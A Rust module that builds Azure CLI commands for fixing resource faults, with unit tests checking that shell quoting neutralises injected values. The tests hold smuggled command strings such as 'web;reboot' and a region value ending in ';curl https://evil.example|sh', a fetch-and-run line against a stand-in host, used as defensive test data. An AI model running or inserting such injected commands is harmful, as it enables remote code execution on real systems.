//! The commands that fix faults of Azure resources. Nothing here is ever run.

use crate::resource_id::ResourceId;
use crate::shell::{ShellCommand, Word};

/// Gives a built-in role at a scope.
pub fn assign_role(assignee: &Word, role: &str, scope: impl Into<Word>) -> ShellCommand {
    ShellCommand::new("az role assignment create")
        .with("--assignee", assignee.clone())
        .with("--role", role)
        .with("--scope", scope)
}

pub fn enable_watcher(subscription: &ResourceId, location: &str) -> ShellCommand {
    let command = ShellCommand::new("az network watcher configure")
        .with("--resource-group", "NetworkWatcherRG")
        .with("--locations", location)
        .words("--enabled true");
    within(subscription, command)
}

pub fn list_captures(watcher: &ResourceId, location: &str) -> ShellCommand {
    let command = ShellCommand::new("az network watcher packet-capture list")
        .with("--location", location)
        .words("--output table");
    within(watcher, command)
}

pub fn delete_capture(watcher: &ResourceId, location: &str, name: &str) -> ShellCommand {
    let command = ShellCommand::new("az network watcher packet-capture delete")
        .with("--location", location)
        .with("--name", name);
    within(watcher, command)
}

/// Shows the tenant that `az` is signed in to, whose id a setting takes.
pub fn show_tenant(setting: &str) -> ShellCommand {
    ShellCommand::new("az account show --query tenantId").remark(&goes_in(setting))
}

/// Shows an endpoint of the cloud that `az` is signed in to, which a setting takes.
pub fn show_cloud(endpoint: &'static str, setting: &str) -> ShellCommand {
    ShellCommand::new("az cloud show")
        .with("--query", &format!("endpoints.{endpoint}"))
        .remark(&goes_in(setting))
}

pub fn show_subscription(subscription: &ResourceId) -> ShellCommand {
    ShellCommand::new("az account show").with("--subscription", subscription.subscription())
}

pub fn list_machines(machine: &ResourceId) -> ShellCommand {
    let command = ShellCommand::new("az vm list --query '[].id' --output tsv");
    within(machine, command)
}

pub fn start_machine(machine: &ResourceId) -> ShellCommand {
    ShellCommand::new("az vm start").with("--ids", &machine.to_string())
}

/// `os_type` is Azure's word, `Linux` or `Windows`.
pub fn install_agent(machine: &ResourceId, os_type: Option<&str>) -> ShellCommand {
    let extension = match os_type.is_some_and(|os| os.eq_ignore_ascii_case("Windows")) {
        true => "NetworkWatcherAgentWindows",
        false => "NetworkWatcherAgentLinux",
    };
    let command =
        ShellCommand::new("az vm extension set --publisher Microsoft.Azure.NetworkWatcher")
            .with("--name", extension)
            .with("--vm-name", machine.name().unwrap_or_default())
            .with(
                "--resource-group",
                machine.resource_group().unwrap_or_default(),
            );
    within(machine, command)
}

pub fn allow_shared_keys(account: &ResourceId) -> ShellCommand {
    ShellCommand::new("az storage account update")
        .with("--ids", &account.to_string())
        .words("--allow-shared-key-access true")
}

pub fn create_account(account: &ResourceId, name: &str) -> ShellCommand {
    let group = account.resource_group().unwrap_or("<group>");
    let command = ShellCommand::new("az storage account create")
        .with("--name", name)
        .with("--resource-group", group)
        .words("--kind StorageV2 --sku Standard_LRS --allow-shared-key-access true");
    within(account, command)
}

/// Shows the connection string of a storage account, which a setting takes.
pub fn show_connection(account: &str, setting: &str) -> ShellCommand {
    ShellCommand::new("az storage account show-connection-string")
        .with("--name", account)
        .remark(&goes_in(setting))
}

fn goes_in(setting: &str) -> String {
    format!("the value goes in {setting}")
}

fn within(resource: &ResourceId, command: ShellCommand) -> ShellCommand {
    command.with("--subscription", resource.subscription())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_of_a_resource_adds_a_word() {
        let id = "/subscriptions/0d3c1d6e-5f5c-4a0b-8a3e-2d1f00c0ffee/resourceGroups/rg(old)/providers/Microsoft.Compute/virtualMachines/web;reboot";
        let Ok(id) = ResourceId::parse(id) else {
            return; // refused even earlier
        };
        let command = install_agent(&id, None).to_string();
        let words = shlex::split(&command).unwrap();
        assert!(words.contains(&"web;reboot".to_owned()), "{command}");
        assert!(words.contains(&"rg(old)".to_owned()), "{command}");
    }

    #[test]
    fn a_region_or_a_capture_cannot_end_the_command() {
        let id = "/subscriptions/0d3c1d6e-5f5c-4a0b-8a3e-2d1f00c0ffee";
        let id = ResourceId::parse(id).unwrap();
        let evil = "westus\n;curl https://evil.example|sh";
        for command in [
            enable_watcher(&id, evil),
            list_captures(&id, evil),
            delete_capture(&id, "westus", evil),
            create_account(&id, evil),
            show_connection(evil, "AzureWebJobsStorage"),
        ] {
            let text = command.to_string();
            assert_eq!(text.lines().count(), 1, "{text}");
            let words = shlex::split(&text).unwrap();
            let holding = words.iter().filter(|it| it.contains("curl")).count();
            assert!(
                holding == 1 && !words.iter().any(|it| it == "|sh"),
                "{text}"
            );
        }
    }
}
